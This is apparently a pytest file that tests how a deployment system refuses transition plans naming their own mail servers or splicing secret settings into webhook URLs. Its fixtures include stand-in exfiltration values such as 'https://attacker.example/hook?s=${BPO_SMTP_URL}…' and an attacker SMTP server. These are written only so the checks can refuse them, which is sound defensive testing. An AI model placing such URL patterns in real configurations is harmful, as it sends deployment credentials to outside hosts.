"""A plan is data, not power: whoever uploads a plan never steers the deployment's mail, secrets
or network. The old ways of writing channels are refused when a plan is checked, and a transition
started before the boundary runs on with its unsafe channel switched off, audited, and nothing
sent: no sign-in link through a mail server the plan chose, no setting spliced into its URL."""

from __future__ import annotations

from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import httpx
import pytest
from sqlmodel import Session, select

from infra.audit import read_trail
from infra.db import make_engine
from models.connections import load_connections
from models.plan import EmailChannel, Plan, WebhookChannel
from models.plan_loader import PlanError, parse_plan
from models.web_tables import SignInLink
from tests.conftest import REFERENCE_PLAN
from tests.driver import Driver
from tests.receivers import smtp_receiver, webhook_receiver

TEXT = REFERENCE_PLAN.read_text()
CONNECTIONS = load_connections(Path(__file__).resolve().parent.parent / "examples" / "connections.yaml")


def problems(text: str) -> str:
    with pytest.raises(PlanError) as caught:
        parse_plan(text, "plan.yaml", env={}, connections=CONNECTIONS)
    return str(caught.value)


@pytest.mark.parametrize(
    ("old", "new", "says"),
    [
        ("smtp: ${BPO_SMTP_URL}", "smtp: smtp://mail.attacker.example:25", "a plan never names a mail server"),
        ("smtp: ${BPO_SMTP_URL}", "smtp: smtps://${BPO_SMTP_URL}", "a plan never names a mail server"),
        (
            "url: ${BPO_WEBHOOK_URL}",
            "url: https://attacker.example/hook?s=${BPO_SMTP_URL}&w=${BPO_WEBHOOK_URL}",
            "a setting is never spliced into a longer string",
        ),
        ("url: ${BPO_WEBHOOK_URL}", "url: https://bot:pa55@hooks.example/x", "carries no user or password"),
        ("url: ${BPO_WEBHOOK_URL}", "connection: acme-ops-hook", "connection 'acme-ops-hook' is not open to client"),
        ("url: ${BPO_WEBHOOK_URL}", "connection: acme-warehouse", "is a sql connection; it cannot serve here"),
    ],
)
def test_a_channel_that_crosses_the_boundary_is_refused_with_what_to_write_instead(old, new, says):
    assert old in TEXT
    assert says in problems(TEXT.replace(old, new, 1))


def test_channels_may_name_the_deployments_own_mailer_and_its_connections_open_to_their_client():
    text = TEXT.replace("client: ACME Corp", "client: Acme Retail").replace(
        "url: ${BPO_WEBHOOK_URL}", "connection: acme-ops-hook"
    )
    plan = parse_plan(text.replace("smtp: ${BPO_SMTP_URL}", "connection: acme-mail"), env={}, connections=CONNECTIONS)
    webhook, email = plan.plan.notifications[1:]
    assert isinstance(webhook, WebhookChannel) and webhook.connection == "acme-ops-hook" and webhook.url is None
    assert isinstance(email, EmailChannel) and email.connection == "acme-mail" and email.smtp is None
    old = parse_plan(TEXT, env={}).plan.notifications[1]
    assert "connection" not in old.model_dump(), "a channel written before connections dumps as it did"


def started_before_the_boundary(plan: Plan, **channel: str) -> Plan:
    """The reference plan with a channel as plans could write it before the boundary: such a plan
    still decodes, as a running transition's does, though the plan checks now refuse it."""
    kind = "email" if "smtp" in channel else "webhook"
    cls = EmailChannel if kind == "email" else WebhookChannel
    extra = {"sender": "transitions@acme.example"} if kind == "email" else {}
    return plan.model_copy(update={"notifications": [cls(kind=kind, **channel, **extra)]})  # type: ignore[arg-type]


async def run_until_failed(env, settings, plan: Plan) -> list:
    """Start ``plan`` on a real worker and wait until its first delivery is audited as failed."""
    with ThreadPoolExecutor(max_workers=2) as executor:
        from bpo.running import build_worker

        async with httpx.AsyncClient() as http, build_worker(env.client, settings, http, executor):
            t = await Driver.start(env, plan, settings.task_queue)
            for _ in range(60):
                with Session(make_engine(settings.audit_url)) as session:
                    rows = [r for r in read_trail(t.id, session=session) if r.kind == "notification_failed"]
                if rows:
                    status = await t.status()
                    assert status.state == "running", "the transition runs on without its channel"
                    return rows
                await t.sleep(seconds=5)
    raise AssertionError("no delivery was audited as failed")


async def test_a_running_transitions_own_mail_server_gets_no_mail_and_no_sign_in_link_is_made(
    env, settings, reference_plan
):
    with smtp_receiver() as (attacker, stolen), smtp_receiver() as (mailer, delivered):
        ours = settings.model_copy(update={"smtp_url": mailer, "web_url": "http://127.0.0.1:8000"})
        failed = await run_until_failed(env, ours, started_before_the_boundary(reference_plan, smtp=attacker))
    assert stolen == [] and delivered == [], "the plan's server got nothing, and its mail went nowhere else"
    with Session(make_engine(ours.audit_url)) as session:
        assert session.exec(select(SignInLink)).all() == [], "no sign-in link was minted"
    error = failed[0].detail["error"]
    assert "switched off" in error and "smtp: ${BPO_SMTP_URL}" in error, error


async def test_settings_spliced_into_a_running_transitions_webhook_url_are_never_filled_in_or_sent(
    env, settings, reference_plan
):
    with webhook_receiver() as (url, received):
        ours = settings.model_copy(update={"smtp_url": "smtps://bpo:S3CRET@mail.example", "webhook_url": url})
        spliced = started_before_the_boundary(reference_plan, url=f"{url}?s=${{BPO_SMTP_URL}}")
        failed = await run_until_failed(env, ours, spliced)
    assert received == [], "nothing was posted, so no setting left the worker"
    assert "never spliced" in failed[0].detail["error"] and "S3CRET" not in str(failed[0].detail)


async def test_mail_through_a_clients_own_relay_carries_no_sign_in_link(engine):
    # An smtp connection may be a client's own relay: provider staff's approval requests through it
    # must not hand that relay a link that signs them in everywhere.
    from temporalio.testing import ActivityEnvironment

    from activities.notify import NotifyActivities
    from infra.transport import Transport
    from models.connections import Connection, Connections
    from models.deliveries import Delivery
    from tests.test_activities import notice

    asked = notice().model_copy(update={"kind": "approval_requested", "detail": {"path": "/t/t1/gates/x"}})
    with smtp_receiver() as (relay, received), smtp_receiver() as (mailer, ours):
        acme = Connection(name="acme-mail", kind="smtp", clients=["ACME Corp"], url_from="BPO_SMTP_ACME_URL")
        transport = Transport(
            settings={"BPO_SMTP_ACME_URL": relay},
            connections=Connections(connections=[acme]),
            mailer=mailer,
            web_url="https://bpo.example",
        )
        async with httpx.AsyncClient() as http:
            notify = NotifyActivities(engine, http, transport)
            for channel in (
                EmailChannel(kind="email", connection="acme-mail", sender="t@acme.example"),
                EmailChannel(kind="email", smtp="${BPO_SMTP_URL}", sender="t@acme.example"),
            ):
                await ActivityEnvironment().run(notify.deliver, Delivery(notice=asked, channel=channel, client="ACME Corp"))
    assert len(received) == len(ours) == 1
    assert b"/login/link/" not in received[0].content, "the client's relay got no link"
    assert b"/login/link/" in ours[0].content, "the deployment's mailer carries it"
    with Session(engine) as session:
        assert len(session.exec(select(SignInLink)).all()) == 1


@pytest.mark.e2e
async def test_on_the_dev_server_a_transition_started_before_the_boundary_runs_on_and_its_mail_server_gets_nothing(
    tmp_path, reference_plan
):
    # The real dev server and `bpo worker`: a transition whose plan names its own mail server
    # (started, as before the boundary, past today's plan checks) runs on; the deployment's
    # mailer and the plan's server both receive nothing, no link is minted, the refusal is in
    # `bpo audit` with its fix.
    from bpo.api import start_transition
    from infra.client import connect
    from infra.settings import Settings
    from tests.stack import Stack, wait_until

    with smtp_receiver() as (attacker, stolen), smtp_receiver() as (mailer, ours):
        stack = Stack(tmp_path, {"BPO_SMTP_URL": mailer, "BPO_WEB_URL": "http://127.0.0.1:8000"})
        stack.start_server()
        stack.start_worker()
        try:
            client = await connect(Settings(TEMPORAL_ADDRESS=stack.env["TEMPORAL_ADDRESS"]))
            plan = started_before_the_boundary(reference_plan, smtp=attacker)
            tid = await start_transition(client, plan, task_queue="e2e", transition_id="before", allow_unsigned=True)
            # `bpo audit` creates no database: until the worker writes its first row it says there is none
            assert wait_until(lambda: "notification_failed" in stack.bpo("audit", tid).stdout, 60)
            trail = stack.ok("audit", tid)
            assert "switched off" in stack.ok("audit", tid, "--json") and "running" in stack.ok("status", tid)
        finally:
            stack.stop()
    assert stolen == [] and ours == [], trail
    with Session(make_engine(f"sqlite:///{tmp_path}/audit.db")) as session:
        assert session.exec(select(SignInLink)).all() == []
